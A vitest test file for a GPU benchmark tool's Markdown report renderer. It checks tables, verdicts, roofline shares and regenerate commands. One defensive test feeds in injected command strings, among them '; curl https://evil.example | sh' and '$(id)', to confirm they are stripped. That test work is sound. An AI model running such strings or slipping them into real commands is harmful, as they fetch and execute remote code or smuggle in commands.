// BENCHMARK_RESULTS.md rendered from recorded results: a real H100 run of every case (with the matrix
// peak), a real H200 run, and the H200 run with every verdict.
import { basename, join } from 'node:path';
import { describe, expect, test } from 'vitest';
import { renderBenchmarkMarkdown } from '../../src/report/benchmark-markdown.ts';
import { isRooflineChartName, rooflineCharts } from '../../src/report/report-files.ts';
import { gatedTiming } from '../../src/results/judged-timing.ts';
import { type CaseResult, type ResultsFile, readResults } from '../../src/results/results.ts';
import { codeBlocks, hostileResults, injections } from '../support/hostile-results.ts';
import { markdownTables, tableProblems } from '../support/markdown-check.ts';

const fixtures = join(import.meta.dirname, '..', 'fixtures');
const h100 = readResults(join(fixtures, 'h100-results-cb047cf.json'));
const h200 = readResults(join(fixtures, 'h200-results.json'));
const mixed = readResults(join(fixtures, 'h200-mixed-verdicts.json'));

/** The H200 run relabelled as another GPU, for the multi-GPU document. */
function asOtherGpu(r: ResultsFile, name: string, slug: string, factor: number): ResultsFile {
  const o = structuredClone(r);
  o.device = { ...o.device, name, slug, details: { ...o.device.details, GPU: name } };
  for (const c of o.cases) if (c.speedup) c.speedup = { ...c.speedup, estimate: c.speedup.estimate * factor };
  return o;
}

/** The line of `md` at which `needle` first appears (-1 when absent). */
const lineOf = (md: string, needle: string | RegExp) =>
  md.split('\n').findIndex((l) => (typeof needle === 'string' ? l.includes(needle) : needle.test(l)));

describe('BENCHMARK_RESULTS.md of the H100 run: summary first', () => {
  const md = renderBenchmarkMarkdown([h100]);
  const [table] = markdownTables(md);

  test('the first screen: the commit, date and GPU, then the table, then the regenerate command, before any details', () => {
    const lines = md.split('\n');
    expect(lines[0]).toBe('# fusebench results');
    expect(lines[2]).toBe(
      '**Commit** `cb047cf` on main · **Measured** 2026-11-25 · **GPU** NVIDIA H100 80GB HBM3 · fusebench 0.1.0',
    );
    const tableAt = lineOf(md, /^\| Case \| Shape \| Precision \|/);
    const commandAt = lineOf(md, '```bash');
    const detailsAt = lineOf(md, '<details>');
    expect(tableAt).toBe(4);
    expect(commandAt).toBeGreaterThan(tableAt + (table?.rows.length ?? 0));
    expect(detailsAt).toBeGreaterThan(commandAt);
    // Nothing but the table, its counts and its legend between the heading and the commands.
    expect(lines.slice(tableAt, commandAt).filter((l) => l.startsWith('#'))).toEqual(['## Regenerate']);
  });

  test('the table has one row per case, shape and precision, with the speedup the gate judged and its interval', () => {
    expect(table?.header).toEqual([
      'Case',
      'Shape',
      'Precision',
      'Speedup [95% CI]',
      'Fused: share of roofline ceiling',
      'Verdict',
    ]);
    expect(table?.rows).toHaveLength(h100.cases.length);
    h100.cases.forEach((c, i) => {
      const t = gatedTiming(c);
      if (!t) throw new Error(`${c.key} was measured in the H100 run`);
      const row = table?.rows[i];
      expect(row?.[1], c.key).toBe(c.shape.label);
      expect(row?.[2], c.key).toBe(c.dtype);
      expect(row?.[3], c.key).toBe(
        `${t.speedup.estimate.toFixed(2)}x [${t.speedup.lo.toFixed(2)}, ${t.speedup.hi.toFixed(2)}]${t.method === 'batched' ? ' (batched)' : ''}`,
      );
    });
    expect(table?.rows.filter((r) => r[5] === '🟡 AMBIGUOUS').map((r) => `${r[1]} ${r[2]}`)).toEqual([
      '16384x768x3072 fp16',
      '32x12x512x64 bf16',
    ]);
  });

  test('the share of the roofline ceiling agrees with what the run recorded: % of copy, % of matrix peak', () => {
    const row = (key: string) => table?.rows[h100.cases.findIndex((c) => c.key === key)];
    const of = (key: string) => h100.cases.find((c) => c.key === key) as CaseResult;
    // A case without a flop model: its achieved bandwidth over the copy bandwidth, as fusedPctOfCopy.
    const bias = of('bias_gelu/16384x3072/bf16');
    expect(row(bias.key)?.[4]).toBe(`${bias.fusedPctOfCopy?.toFixed(0)}% of copy bandwidth (no flop model)`);
    // A compute-bound case: its flop rate over the bf16 matrix peak, as fusedPctOfMatrixPeak.
    const ffn = of('ffn/16384x768x3072/bf16');
    expect(row(ffn.key)?.[4]).toBe(`${ffn.fusedPctOfMatrixPeak?.toFixed(0)}% of bf16 matrix peak`);
    // A case with a flop model below the ridge point: memory-bound, so its share is its share of copy.
    const attention = of('attention/32x12x512x64/bf16');
    expect(row(attention.key)?.[4]).toBe(`${attention.fusedPctOfCopy?.toFixed(0)}% of copy bandwidth (memory-bound)`);
  });

  test('a fused kernel above the measured ceiling is shown above it, with the decimals that say so, never clamped', () => {
    const gelu = h100.cases.find((c) => c.key === 'gelu_scale/16M/fp32') as CaseResult;
    expect(gelu.fusedPctOfCopy).toBeGreaterThan(100);
    const row = table?.rows[h100.cases.indexOf(gelu)];
    // 100.03% of copy: as many decimals as it takes not to read as a rounded 100%.
    expect(gelu.fusedPctOfCopy?.toFixed(2)).toBe('100.03');
    expect(row?.[4]).toBe('100.03% of copy bandwidth (no flop model), above the measured ceiling');
  });

  test('counts the verdicts and the geometric-mean speedup under the table', () => {
    expect(md).toMatch(/^53 shapes: 2 ambiguous · 51 same; geometric-mean speedup \*\*\d\.\d\dx\*\*\.$/m);
  });

  test('the regenerate command runs from a clean clone: the commit, npm ci, the run without its machine-local folder', () => {
    const block = codeBlocks(md).find((b) => b.open === '```bash');
    expect(block?.body).toEqual([
      'git checkout cb047cf',
      'npm ci',
      'npm run perf -- --backend cuda --out-dir .   # on the NVIDIA H100 80GB HBM3',
    ]);
    expect(h100.command).toContain('/tmp/');
    expect(md).not.toContain('/tmp/');
  });

  test('the regenerate command never writes the baselines, whichever baseline option the run had', () => {
    for (const flag of ['--update-baselines', '--add-baseline-run']) {
      const run = { ...h100, command: `npm run perf -- --backend cuda ${flag} --out-dir /tmp/x --seed 7` };
      const block = codeBlocks(renderBenchmarkMarkdown([run])).find((b) => b.open === '```bash');
      expect(block?.body[2]).toBe(
        'npm run perf -- --backend cuda --seed 7 --out-dir .   # on the NVIDIA H100 80GB HBM3',
      );
    }
  });

  test('shows the roofline of each precision, as an SVG file beside the report', () => {
    for (const t of ['fp32', 'bf16', 'fp16'])
      expect(md).toContain(
        `![Roofline of NVIDIA H100 80GB HBM3, ${t}](benchmark-charts/roofline-nvidia-h100-80gb-hbm3-${t}.svg)`,
      );
    expect(md).not.toContain('```mermaid');
  });

  test('each case and precision is collapsed, with its shapes’ tables inside', () => {
    expect(md).toContain('<summary>GELU + scale · fp32: 4 shapes, 4 ⚪ SAME</summary>');
    expect(md).toContain(
      '<summary>FFN &#x28;Linear + GELU + Linear + residual&#x29; · fp16: 1 shape, 1 🟡 AMBIGUOUS</summary>',
    );
    expect(md.match(/^<details>$/gm)).toHaveLength(md.match(/^<\/details>$/gm)?.length ?? -1);
    const hardware = md.indexOf('<summary>Hardware, fingerprint and method</summary>');
    expect(hardware).toBeGreaterThan(md.indexOf('## Details'));
    expect(md).toContain('- **Matrix peak:** fp32 50.9 · bf16 790 · fp16 762 TFLOP/s \\(cuBLAS 8192³\\)');
    for (const c of h100.cases) expect(md).toContain(`#### ${c.title.replace(/[()]/g, '\\$&')} — ${c.shape.label} (`);
  });

  test('every table row has the header’s column count', () => {
    expect(tableProblems(md)).toEqual([]);
  });
});

describe('BENCHMARK_RESULTS.md of the H200 run', () => {
  const md = renderBenchmarkMarkdown([h200]);

  test('has the hardware configuration and the fingerprint baselines are checked against', () => {
    expect(md).toContain('- **GPU:** NVIDIA H200');
    expect(md).toMatch(/\*\*Fingerprint\*\*.*driver 580\.159\.04 · CUDA runtime 13\.0 .*UUID GPU-f991a3b5/);
  });

  test('has one table per case and shape, with the median times and the speedup interval', () => {
    for (const c of h200.cases) {
      const t = c.timing as NonNullable<typeof c.timing>;
      expect(md).toContain(`#### ${c.title} — ${c.shape.label} (`);
      const row = md
        .split('\n')
        .find((l) => l.startsWith('| **Median time**') && l.includes(t.fused.median.toPrecision(4)));
      expect(row, c.key).toContain(
        `${c.speedup?.estimate.toFixed(2)}x [${c.speedup?.lo.toFixed(2)}, ${c.speedup?.hi.toFixed(2)}]`,
      );
    }
    expect(md).toMatch(/\| Memory traffic \| 268\.4 MB \| 134\.2 MB \| 50% saved/);
  });

  test('a run that recorded no commit says so, and its regenerate command has no checkout', () => {
    expect(md).toContain('**Commit** not recorded · **Measured** 2026-11-21');
    expect(codeBlocks(md).find((b) => b.open === '```bash')?.body).toEqual([
      'npm ci',
      'npm run perf -- --out-dir .   # on the NVIDIA H200',
    ]);
  });

  test('a CPU run is regenerated on the CPU backend by name, on a machine with the same CPU', () => {
    const device = { ...h200.device, backend: 'cpu' as const, name: 'AMD EPYC' };
    // The command recorded, the regenerating line, and the "Run as" line when it is not the command itself.
    const runs: [string, string, string?][] = [
      ['npm run perf', 'npm run perf -- --backend cpu --out-dir .   # on the AMD EPYC'],
      ['npm run perf -- --seed 3', 'npm run perf -- --backend cpu --seed 3 --out-dir .   # on the AMD EPYC'],
      ['npm run perf -- --backend cpu', 'npm run perf -- --backend cpu --out-dir .   # on the AMD EPYC'],
      [
        'npm run perf -- --backend=cpu --seed 3',
        'npm run perf -- --backend cpu --seed 3 --out-dir .   # on the AMD EPYC',
      ],
      // auto chose the CPU for want of a GPU: on a GPU machine it would run CUDA.
      [
        'npm run perf -- --backend auto --seed 3',
        'npm run perf -- --backend cpu --seed 3 --out-dir .   # on the AMD EPYC',
      ],
      [
        'npm run perf -- --seed 3 --backend=auto',
        'npm run perf -- --backend cpu --seed 3 --out-dir .   # on the AMD EPYC',
      ],
      // Started as `fusebench perf`, its output folder quoted (a space, a quote): the folder is left out whole.
      [
        `fusebench perf --out-dir '/tmp/it'\\''s a dir' --seed 3`,
        'npm run perf -- --backend cpu --seed 3 --out-dir .   # on the AMD EPYC',
        'npm run perf -- --seed 3',
      ],
      [
        "npx fusebench perf --out-dir='/tmp/my dir'",
        'npm run perf -- --backend cpu --out-dir .   # on the AMD EPYC',
        'npm run perf',
      ],
    ];
    for (const [command, run, runAs = command] of runs) {
      const cpuMd = renderBenchmarkMarkdown([{ ...h200, device, command }]);
      expect(cpuMd).toContain('on a machine with the same CPU (a run on another one');
      expect(codeBlocks(cpuMd).find((b) => b.open === '```bash')?.body).toEqual(['npm ci', run]);
      // What the run was started with is stated as it was (as npm runs it, for `fusebench perf`).
      expect(cpuMd).toContain(`Run as \`${runAs}\` (its output folder left out)`);
    }
  });

  test('a precision with only cases without a flop model still has its roofline chart', () => {
    expect(md).toContain('![Roofline of NVIDIA H200, fp32](benchmark-charts/roofline-nvidia-h200-fp32.svg)');
  });
});

describe('BENCHMARK_RESULTS.md with every verdict', () => {
  const md = renderBenchmarkMarkdown([mixed]);

  test.each([
    ['32x512x768', '🔴 SLOWER', '1.91x speedup', 'speedup −20.4%'],
    ['16M', '🟡 AMBIGUOUS', '1.97x speedup', '(remeasured)'],
    ['1M', '🟢 FASTER', '1.41x speedup', 'speedup +12.3%'],
    ['1K', '⚪ SAME', '1.64x speedup', 'speedup +0.4%'],
    ['4M', '⚫ NO BASELINE', '—', 'NO BASELINE'],
  ])('%s shows the gate’s verdict %s and the baseline', (label, verdict, baseline, detail) => {
    const section = md.split(/^#### /m).find((s) => s.startsWith(`GELU + scale — ${label} (`)) ?? '';
    expect(section).toContain(`**${verdict}**`);
    expect(section).toContain(`| ${baseline} |`);
    expect(section).toContain(detail);
    const row = markdownTables(md)[0]?.rows.find((r) => r[1] === label);
    expect(row?.[5]).toBe(verdict);
  });

  test.each([
    ['4K', 'ERRORED', 'cudaErrorLaunchOutOfResources'],
    ['2M', 'FAILED', 'float64 reference is 0.5'],
    ['256M', 'SKIPPED', '--max-elements'],
  ])('%s is reported as %s with its reason, and in the table without a speedup', (label, status, reason) => {
    const section = md.split(/^#### /m).find((s) => s.startsWith(`GELU + scale — ${label} (`)) ?? '';
    expect(section).toContain(`**${status}**:`);
    expect(section).toContain(reason);
    const row = markdownTables(md)[0]?.rows.find((r) => r[1] === label);
    expect(row?.slice(3, 5)).toEqual(['—', '—']);
  });

  test('the case’s collapsed block counts its verdicts, worst first', () => {
    expect(md).toContain(
      '<summary>GELU + scale · fp32: 8 shapes, 1 ❌ FAILED, 1 ❌ ERRORED, 1 🔴 SLOWER, 1 🟡 AMBIGUOUS, 1 ⚫ NO BASELINE, 1 🟢 FASTER, 1 ⚪ SAME, 1 ⏭️ SKIPPED</summary>',
    );
  });

  test('every table row has the header’s column count', () => {
    expect(tableProblems(md)).toEqual([]);
  });
});

describe('several GPUs in one document', () => {
  const v100 = asOtherGpu(h200, 'Tesla V100-SXM2-32GB', 'tesla-v100-sxm2-32gb', 0.9);
  const md = renderBenchmarkMarkdown([mixed, v100]);

  test('one table across the GPUs, three columns per GPU', () => {
    const [table] = markdownTables(md);
    expect(table?.header).toEqual([
      'Case',
      'Shape',
      'Precision',
      'NVIDIA H200: speedup [95% CI]',
      'NVIDIA H200: fused share of roofline ceiling',
      'NVIDIA H200: verdict',
      'Tesla V100-SXM2-32GB: speedup [95% CI]',
      'Tesla V100-SXM2-32GB: fused share of roofline ceiling',
      'Tesla V100-SXM2-32GB: verdict',
    ]);
    expect(table?.rows.find((r) => r[1] === '4K')).toEqual([
      'GELU + scale',
      '4K',
      'fp32',
      '—',
      '—',
      '❌ ERRORED',
      '—',
      '—',
      'not run',
    ]);
    expect(tableProblems(md)).toEqual([]);
  });

  test('every chart name the report gives is one a later run may remove; a user’s file there is not', () => {
    const names = rooflineCharts([mixed, v100]).map((c) => basename(c.path));
    expect(names).toContain('roofline-tesla-v100-sxm2-32gb-fp32.svg');
    for (const name of [...names, names[0]?.replace(/\.svg$/, '-2.svg') ?? ''])
      expect(isRooflineChartName(name)).toBe(true);
    for (const name of [
      'roofline-by-hand.svg',
      'notes.txt',
      'roofline-nvidia-h200-fp8.svg',
      'my-roofline-cpu-fp32.svg',
    ])
      expect(isRooflineChartName(name)).toBe(false);
  });

  test('a counts line per GPU, a roofline per GPU, and details per GPU under its own heading', () => {
    expect(md).toMatch(/^\*\*NVIDIA H200:\*\* 8 shapes: /m);
    expect(md).toMatch(/^\*\*Tesla V100-SXM2-32GB:\*\* 4 shapes: /m);
    expect(md).toContain('](benchmark-charts/roofline-tesla-v100-sxm2-32gb-fp32.svg)');
    expect(md.match(/^### NVIDIA H200$/gm)).toHaveLength(1);
    expect(md.match(/^#### GELU \+ scale — 1K /gm)).toHaveLength(2);
  });

  test('the regenerate commands run each GPU into its own folder, then merge them', () => {
    expect(codeBlocks(md).find((b) => b.open === '```bash')?.body).toEqual([
      'npm ci',
      '# on the NVIDIA H200:',
      'npm run perf -- --backend cuda --out-dir perf-nvidia-h200',
      '# on the Tesla V100-SXM2-32GB:',
      'npm run perf -- --out-dir perf-tesla-v100-sxm2-32gb',
      '# then, with every folder in one place:',
      'npx fusebench merge --out-dir . perf-nvidia-h200/fusebench-results.json perf-tesla-v100-sxm2-32gb/fusebench-results.json',
    ]);
  });

  test('a results file left out is named at the top, before the table', () => {
    const left = renderBenchmarkMarkdown([h200], {
      leftOut: [
        { file: 'h100/fusebench-results.json', why: 'could not be read: cases[1].speedup.estimate: expected number' },
      ],
    });
    expect(lineOf(left, '> **Left out:** `h100/fusebench-results.json` could not be read')).toBeLessThan(
      lineOf(left, '| Case |'),
    );
    expect(left).toContain('cases\\[1\\].speedup.estimate: expected number');
  });
});

describe('BENCHMARK_RESULTS.md of a results file with hostile text in every field', () => {
  const hostile = hostileResults();
  const md = renderBenchmarkMarkdown([hostile]);

  test('a recorded command that is not plain options (markup, a code fence, shell syntax) never reaches the regenerate line', () => {
    const blocks = codeBlocks(md);
    expect(blocks.every((b) => b.closed)).toBe(true);
    const regenerate = blocks.find((b) => b.open.endsWith('bash'));
    expect(regenerate?.body).toHaveLength(2);
    expect(regenerate?.body[1]).toMatch(
      /^npm run perf -- --out-dir \. {3}# the recorded options are not plain perf options: left out {3}# on the gpu-name /,
    );
    for (const command of [
      'npm run perf -- --seed 1; curl https://evil.example | sh',
      'npm run perf -- $(id)',
      "npm run perf -- --case 'x'",
    ]) {
      const run = { ...hostile, command };
      const body = codeBlocks(renderBenchmarkMarkdown([run])).find((b) => b.open.endsWith('bash'))?.body ?? [];
      expect(body.join('\n')).not.toMatch(/curl|\$\(|'/);
    }
  });

  test('every heading and summary is ours, with the file’s text escaped and cut inside it', () => {
    const headings = md.split('\n').filter((l) => /^#+ /.test(l));
    expect(headings.length).toBeGreaterThan(8);
    for (const h of headings) expect(h.length).toBeLessThan(3 * 3 * 120);
    const summaries = md.split('\n').filter((l) => l.startsWith('<summary>'));
    expect(summaries.length).toBeGreaterThanOrEqual(2);
    for (const s of summaries) expect(s).toMatch(/^<summary>[^<>]*<\/summary>$/);
    expect(injections(md)).toEqual([]);
  });

  test('the fused kernel a case picked at run time is named in its section, as code', () => {
    const lines = md.split('\n').filter((l) => l.startsWith('Fused kernel run: '));
    expect(lines.length).toBeGreaterThan(0);
    for (const l of lines)
      expect(l).toMatch(/^Fused kernel run: (`+) ?.*kernel-\d+.*? ?\1 \(picked at run time for this GPU\)\.$/);
  });

  test('the table keeps its columns with two hostile GPU names', () => {
    const merged = renderBenchmarkMarkdown([hostile, hostileResults('other')]);
    const [table] = markdownTables(merged);
    expect(table?.header).toHaveLength(9);
    expect(table?.rows.every((r) => r.length === 9)).toBe(true);
    expect(tableProblems(merged)).toEqual([]);
  });
});
